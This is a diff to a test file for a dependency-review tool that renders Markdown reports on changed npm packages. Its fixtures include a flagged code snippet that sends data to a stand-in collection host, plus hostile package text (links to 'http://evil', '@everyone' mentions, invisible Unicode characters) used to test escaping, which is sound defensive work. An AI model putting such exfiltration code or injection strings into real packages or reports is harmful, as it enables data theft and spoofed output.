@@ -25,6 +25,18 @@ describe('renderMarkdown layout', () => {
     expect(markdownProblems(markdown)).toEqual([]);
   });
 
+  test('one table of the packages with medium+ findings comes right after the verdict, worst first', () => {
+    const lines = markdown.split('\n');
+    expect(lines.slice(5, 10)).toEqual([
+      '| Package | Version | Findings |',
+      '| --- | --- | --- |',
+      '| `event-stream-helper` | `3.3.4` → `3.3.6` | 🟥 Install script, 🟧 Network, 🟧 Environment, 🟨 New publisher |',
+      '| `chalk` | `5.3.0` → `5.4.1` | 🟧 Runs built code |',
+      '| `@acme/logger` | `1.2.0` → `1.3.0` | 🟨 Runs programs |',
+    ]);
+    expect(markdown.match(/^\| Package \| Version \| Findings \|$/gm)).toHaveLength(1);
+  });
+
   test('has one section per lockfile, findings before each table, packages worst first', () => {
     const npm = markdown.indexOf('### `package-lock.json`');
     const pnpm = markdown.indexOf('### `packages/web/pnpm-lock.yaml`');
@@ -32,7 +44,7 @@ describe('renderMarkdown layout', () => {
     expect(pnpm).toBeGreaterThan(npm);
     const critical = markdown.indexOf('#### 🟥 `event-stream-helper` `3.3.4` → `3.3.6`');
     const medium = markdown.indexOf('#### 🟨 `@acme/logger` `1.2.0` → `1.3.0`');
-    const low = markdown.indexOf('#### 🟦 `tiny-color` `0.4.1` (added)');
+    const low = markdown.indexOf('<details><summary>1 package with low findings only</summary>\n\n- 🟦 `tiny-color` `0.4.1` (added): Recently published: `tiny-color@0.4.1` was published 5 hours ago\\.');
     const table = markdown.indexOf('<details><summary>5 changed packages</summary>');
     expect([critical, medium, low, table].every((index) => index > npm && index < pnpm)).toBe(true);
     expect(critical).toBeLessThan(medium);
@@ -42,11 +54,18 @@ describe('renderMarkdown layout', () => {
     expect(markdown).toContain('<details><summary>2 changed packages</summary>');
   });
 
+  test('low findings of a package with medium+ ones are one line, grouped by kind', () => {
+    expect(markdown).toContain('Also 🟦 Deprecated: ');
+    expect(markdown).not.toContain('🟦 **low**');
+  });
+
   test('links each location to the npm code view and fences the evidence', () => {
     expect(markdown).toContain('in [`lib/setup.js:4`](https://www.npmjs.com/package/event-stream-helper/v/3.3.6?activeTab=code)');
     expect(markdown).toContain('(https://www.npmjs.com/package/@acme/logger/v/1.3.0?activeTab=code)');
     expect(markdown).toContain("```js\nconst https = require('https');\nhttps.get('https://collect.example.net/?d=' + data);\n```");
-    expect(markdown).toContain('<details><summary>package.json changes</summary>\n\n```diff\n--- a/package.json');
+    expect(markdown).not.toContain('package.json changes');
+    // The job summary's full layout adds the package.json diffs.
+    expect(renderMarkdown(sampleReport(), { full: true })).toContain('<details><summary>package.json changes</summary>\n\n```diff\n--- a/package.json');
   });
 
   test('lists every changed package in the table, including ones without findings', () => {
@@ -64,18 +83,22 @@ describe('renderMarkdown layout', () => {
   test('lists packages that could not be reviewed, notes, and how to acknowledge', () => {
     expect(markdown).toContain('- `big-binary@2.0.0`: The tarball is larger than 200 MB\\. (`ELIMIT`)');
     expect(markdown).toContain('- The registry omits \\_npmUser');
-    expect(markdown).toContain('ignore:\n  - package: "event-stream-helper"\n    version: "3.3.6"\n    kinds: [install-script]');
+    // Every failing finding (high and above here), one entry per package.
+    expect(markdown).toContain('ignore:\n  - package: "event-stream-helper"\n    version: "3.3.6"\n    kinds: [install-script, network, env]');
+    expect(markdown).toContain('  - package: "chalk"\n    version: "5.4.1"\n    kinds: [eval]');
+    expect(markdown).not.toMatch(/package: "@acme\/logger"/);
     expect(markdown).toContain('expires: "2026-04-09"');
     expect(markdown).toContain('read from the base branch');
     expect(markdown).toContain('`.github/depdiff.yml`');
   });
 
-  test('the order of the closing sections is acknowledged, errors, how-to', () => {
-    const ack = markdown.indexOf('acknowledged finding</summary>');
+  test('the order of the closing sections is notes, errors, acknowledged, legend, how-to', () => {
+    const notes = markdown.indexOf('- The registry omits');
     const errors = markdown.indexOf('#### ⚠️ Not reviewed');
-    const howTo = markdown.indexOf('How to acknowledge a finding');
-    expect(ack).toBeLessThan(errors);
-    expect(errors).toBeLessThan(howTo);
+    const ack = markdown.indexOf('acknowledged finding</summary>');
+    const legend = markdown.indexOf('Why these findings matter');
+    const howTo = markdown.indexOf('How to acknowledge 4 failing findings');
+    expect([notes, errors, ack, legend, howTo].every((index, i, all) => i === 0 || index > all[i - 1]!)).toBe(true);
   });
 
   test('a single lockfile gets no lockfile heading', () => {
@@ -88,7 +111,7 @@ describe('renderMarkdown layout', () => {
     const custom = renderMarkdown(sampleReport(), { title: '### Deps', configPath: 'ci/depdiff.yaml', configChanged: true });
     expect(custom.startsWith('### Deps\n')).toBe(true);
     expect(custom).toContain('- This pull request changes `ci/depdiff.yaml`; its changes apply once merged');
-    expect(custom).toContain('acknowledge it in `ci/depdiff.yaml`');
+    expect(custom).toContain('acknowledge them in `ci/depdiff.yaml`');
   });
 
   test('a passing review says so', () => {
@@ -170,14 +193,24 @@ describe('renderMarkdown with hostile package text', () => {
     // depdiff adds no invisible character; the package's own are shown as <U+XXXX>.
     // (The only variation selector allowed is the one in depdiff's own ⚠️.)
     expect(markdown.replaceAll('\u26A0\uFE0F', '')).not.toMatch(/[\u200B-\u200F\u2060\uFEFF\u202A-\u202E\uFE0F]|[\u{E0000}-\u{E007F}]|\p{Cs}/u);
-    for (const line of rendered.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| ---'))) {
-      // Every table row keeps its five cells: escaped pipes do not split cells.
-      expect(line.replace(/\\\|/g, '').split('|').length - 2).toBe(5);
+    // Every table row keeps its table's cells: escaped pipes do not split cells. Code spans in cells escape
+    // their pipes too (GFM splits on them): only the cell borders stay bare.
+    expect(rowsWithWrongCellCount(rendered)).toEqual([]);
+    expect(rowsWithWrongCellCount(markdown)).toEqual([]);
+  }
+
+  /** Rows whose cell count (bare pipes) differs from their table's delimiter row. */
+  function rowsWithWrongCellCount(markdown: string): string[] {
+    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length - 2;
+    const lines = markdown.split('\n');
+    const wrong: string[] = [];
+    let expected = 0;
+    for (const [i, line] of lines.entries()) {
+      if (!line.startsWith('| ')) continue;
+      if (lines[i + 1]?.startsWith('| ---')) expected = cells(lines[i + 1]!);
+      if (cells(line) !== expected) wrong.push(line);
     }
-    for (const line of markdown.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| ---'))) {
-      // Code spans in cells escape their pipes too (GFM splits on them): only the five cell borders stay bare.
-      expect(line.replace(/\\\|/g, '').split('|').length - 2).toBe(5);
-    }
+    return wrong;
   }
 
   test('renders no link, image, HTML, heading, mention, reference, math or emoji from package text', () => {
@@ -187,6 +220,7 @@ describe('renderMarkdown with hostile package text', () => {
     expect(markdown).toContain('contacts `[click](http://evil)` &lt;img src=x&gt; `@everyone` \\| cell \\|');
     expect(markdown).toContain('#### 🟧 `multi line ## heading`');
     expect(markdown).toContain('| `pipe\\|in\\|name` |');
+    expect(markdown.match(/^\| --- \| --- \| --- \|$/m)).not.toBeNull();
     expect(markdown).toContain('#### 🟧 `` `edge` `` `1.0.0` → `2.0.0 @everyone #6`');
     expect(markdown).toContain('`hidden<U+200B><U+200D><U+2060><U+FEFF><U+202E><U+E0041><U+FE0F><U+D800>`');
   });
@@ -226,4 +260,17 @@ test('the structure check used above catches broken Markdown', () => {
   expect(markdownProblems('x\n</details>\n<details>')).toHaveLength(1);
   expect(markdownProblems('````\n```\n</details>\n````\n<details>\n\n</details>')).toEqual([]);
   expect(outsideCode('a `<img>` b\n```\n@everyone\n```')).toBe('a «code» b');
+});
+
+test('an added package says in one escaped line what it is for; a nested transitive one says who pulls it in', () => {
+  const report = sampleReport();
+  report.changes.push(
+    changeReport('new-helper', null, '1.0.0', [{ kind: 'network', severity: 'medium', message: 'lib/a.js loads the `https` module.' }], {
+      description: 'Helps with <things> @everyone [x](http://evil)',
+      after: { ...report.changes[0]!.after!, name: 'new-helper', version: '1.0.0', direct: false, paths: ['node_modules/@acme/logger/node_modules/new-helper'] },
+    }),
+  );
+  const markdown = renderMarkdown(report);
+  expect(markdown).toContain('#### 🟨 `new-helper` `1.0.0` (added)\n\nTransitive dependency via `@acme/logger`. What it is: Helps with &lt;things&gt; `@everyone` `[x](http://evil)`');
+  expect(markdown).toContain('loads the `https` module\\.');
 });
